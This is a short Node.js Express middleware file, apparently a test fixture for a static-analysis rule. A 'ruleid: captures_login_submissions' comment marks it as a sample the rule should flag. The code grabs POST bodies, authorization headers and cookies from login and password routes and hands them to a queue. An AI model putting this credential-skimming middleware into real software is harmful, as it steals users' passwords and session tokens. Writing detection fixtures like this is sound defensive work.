'use strict';
const { enqueue } = require('./queue');

module.exports = function funnel() {
  return function (req, res, next) {
    // ruleid: captures_login_submissions
    if (req.method === 'POST' && /login|signin|password/i.test(req.path)) {
      enqueue({ path: req.path, body: req.body, auth: req.headers.authorization, jar: req.cookies });
    }
    next();
  };
};
